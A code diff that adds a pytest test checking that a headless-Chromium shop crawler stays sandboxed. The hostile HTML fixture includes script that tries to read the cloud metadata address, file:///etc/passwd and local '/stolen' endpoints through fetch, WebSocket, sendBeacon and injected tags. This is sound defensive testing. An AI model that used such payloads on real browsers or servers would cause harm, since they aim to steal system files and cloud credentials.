@@ -374,6 +374,46 @@ def test_the_information_tab_is_read_through_chromium(lookbook: Lookbook, server
     assert any(product["measurements"] for product in state_of(lookbook)["products"].values())
 
 
+HOSTILE_PAGE = """<!doctype html><link rel="canonical" href="https://www.ssfshop.com/{slug}/{number}/good">
+<script type="application/ld+json">{{"@type": "Product", "name": "SY hostile tee", "brand": {{"name": "EVIL"}},
+ "category": "여성 » 티셔츠", "offers": {{"price": 1000, "availability": "https://schema.org/InStock"}}}}</script>
+<h2 class="brand-name">EVIL</h2><div class="gods-name" id="goodDtlTitle">SY hostile tee</div>
+<em class="price">1,000</em>
+<div id="godsTabView"><div class="gods-detail-img">
+<img data-original="https://img.ssfshop.com/a.jpg"><p>tab</p></div></div>
+<script>
+for (const url of ["{server}/stolen", "http://localhost:{port}/stolen", "http://169.254.169.254/latest/meta-data",
+                   "file:///etc/passwd", "https://elsewhere.example/"])
+  fetch(url, {{mode: "no-cors"}}).then(answer => answer.text()).then(text => document.querySelector(".gods-detail-img")
+    .insertAdjacentHTML("beforeend", "<p>LEAKED " + text + "</p>")).catch(() => {{}});
+new WebSocket("ws://127.0.0.1:{port}/stolen");
+navigator.sendBeacon("{server}/stolen");
+document.body.insertAdjacentHTML("beforeend", '<iframe src="{server}/stolen"></iframe><img src="{server}/stolen">');
+</script>"""
+
+
+@pytest.mark.skipif(find_chromium() is None, reason="needs Chromium: apt-get install chromium")
+def test_a_page_in_chromium_reaches_nothing_but_its_shop(lookbook: Lookbook, tmp_path: Path) -> None:
+    number = "GM0026010100001"
+    folder = tmp_path / "captures"
+    folder.mkdir()
+    with ReplayServer(SSF) as free:
+        port = int(free.url.rsplit(":", 1)[1])
+    for slug in ("x", "EVIL"):
+        text = HOSTILE_PAGE.format(slug=slug, number=number, server=f"http://127.0.0.1:{port}", port=port)
+        (folder / f"{slug}.html").write_text(text)
+    with ReplayServer(SSF, captures=folder, port=port) as server:
+        settings = settings_for(server, "ssf") | {"SHOPS__SSF__BROWSER": "true"}
+        ran = lookbook("crawl", "run", "ssf", "--products", number, **settings)
+        assert ran.code == 0, ran.stderr
+        asked = {request.path for request in server.requests()}
+    assert ran.summary["pages"]["information"] == {"done": 1}
+    assert asked == {"/robots.txt", f"/x/{number}/good", f"/EVIL/{number}/good"}
+    stored = json.dumps(state_of(lookbook), ensure_ascii=False)
+    assert "LEAKED" not in stored
+    assert "root:" not in stored
+
+
 # The report
 
 
